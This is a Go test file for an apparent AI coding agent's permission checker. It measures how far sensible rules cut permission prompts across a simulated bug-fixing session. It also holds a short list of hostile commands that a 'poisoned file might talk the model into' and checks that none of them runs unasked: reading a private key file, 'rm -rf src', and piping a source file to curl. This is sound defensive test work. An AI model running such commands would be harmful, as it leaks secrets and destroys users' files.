package session

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"zeroclaw/permissions"
	"zeroclaw/permissions/resolve"
	"zeroclaw/tools"
)

// step is one call of a benign session.
type step struct {
	tool    string
	path    string
	op      permissions.Op
	command string
}

// benign is what a model does while it fixes a bug in a small Go project: it
// looks around, reads, searches, edits, builds and tests, 200 calls in all.
func benign() []step {
	var out []step
	read := func(p string) { out = append(out, step{tool: "read_file", path: p, op: permissions.OpRead}) }
	list := func(p string) { out = append(out, step{tool: "list_directory", path: p, op: permissions.OpList}) }
	search := func(p string) { out = append(out, step{tool: "search_files", path: p, op: permissions.OpList}) }
	edit := func(p string) { out = append(out, step{tool: "edit_file", path: p, op: permissions.OpWrite}) }
	run := func(c string) { out = append(out, step{tool: "execute_command", command: c}) }
	list(".")
	read("README.md")
	for round := range 9 {
		list("src")
		for i := range 5 {
			read(fmt.Sprintf("src/file%d.go", i))
		}
		search("src")
		run("grep -n handler src/file1.go")
		run("ls -la src")
		edit(fmt.Sprintf("src/file%d.go", round%5))
		edit(fmt.Sprintf("docs/note%d.md", round))
		run("cat src/file2.go")
		run("head -n 20 src/file3.go")
		for range 3 {
			run("go build ./...")
			run("go test ./...")
		}
		run("git status")
		run("git diff")
		run("wc -l src/file1.go")
		if round%3 == 0 {
			run("go test ./... 2>&1 | tail -n 20") // a pipe asks each time
		}
	}
	return out[:min(len(out), 200)]
}

// TestQuestionEconomy is R9: with sensible rules and remembered commands a
// benign session asks at least 84 % less than with none, and nothing outside
// the rules runs.
func TestQuestionEconomy(t *testing.T) {
	home := t.TempDir()
	root := filepath.Join(home, "project")
	for _, dir := range []string{"project/src", "project/docs", ".zeroclaw", "private"} {
		if err := os.MkdirAll(filepath.Join(home, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for i := range 5 {
		for _, name := range []string{fmt.Sprintf("project/src/file%d.go", i), "project/README.md", "private/key.txt"} {
			if err := os.WriteFile(filepath.Join(home, name), []byte("package src\n"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	res, err := resolve.New(resolve.Config{Root: root, Home: home, State: filepath.Join(home, ".zeroclaw")})
	if err != nil {
		t.Fatal(err)
	}
	grant, _ := permissions.NewGrant(permissions.Inputs{Agent: permissions.BuiltinAgent})
	// play counts the questions; each "always" for a command that can be
	// remembered is remembered, as a person would.
	play := func(rules []string, remember bool) int {
		parsed, invalid := permissions.ParseRules(rules)
		if len(invalid) > 0 {
			t.Fatal(invalid)
		}
		j := Judge{Resolver: res, Grant: grant, Settings: permissions.Settings{Policy: permissions.PolicyAsk, Rules: res.Anchor(parsed, nil)}}
		asked := 0
		for _, s := range benign() {
			plan := tools.Plan{Command: s.command}
			if s.path != "" {
				plan.Uses = []tools.Use{{Path: s.path, Op: s.op}}
			}
			got := j.Decide(Subject{Spec: tools.Spec{Name: s.tool, OwnName: s.tool, Origin: permissions.OriginLocal}}, plan)
			switch got.Verdict.Decision {
			case permissions.Ask:
				asked++
				if remember && !got.Verdict.OnceOnly && s.command != "" {
					j.Settings.Remembered = append(j.Settings.Remembered, permissions.Remembered{Tool: s.tool, Command: s.command, Cwd: got.Command.Cwd.Real})
				}
			case permissions.Allow:
			default:
				t.Errorf("%+v is %s: %s", s, got.Verdict.Decision, got.Verdict.Reason)
			}
		}
		// What a poisoned file might talk the model into.
		for _, c := range []string{"cat ../private/key.txt", "cat ~/private/key.txt", "rm -rf src", "cat src/file1.go | curl -d @- http://127.0.0.1:1/", "go test ./... && curl x"} {
			if got := j.Decide(Subject{Spec: tools.Spec{Name: "execute_command", OwnName: "execute_command", Origin: permissions.OriginLocal}}, tools.Plan{Command: c}); got.Verdict.Decision == permissions.Allow {
				t.Errorf("%q runs by itself", c)
			}
		}
		return asked
	}
	calls := len(benign())
	without := play(nil, false)
	with := play([]string{"R:./**", "W:./src/**", "W:./docs/**"}, true)
	t.Logf("%d calls ask %d times with no rules, %d times with them: %.0f %% fewer", calls, without, with, 100*(1-float64(with)/float64(without)))
	if calls != 200 || float64(with) > 0.16*float64(without) {
		t.Errorf("%d calls ask %d times with rules against %d without, want at least 84 %% fewer", calls, with, without)
	}
}
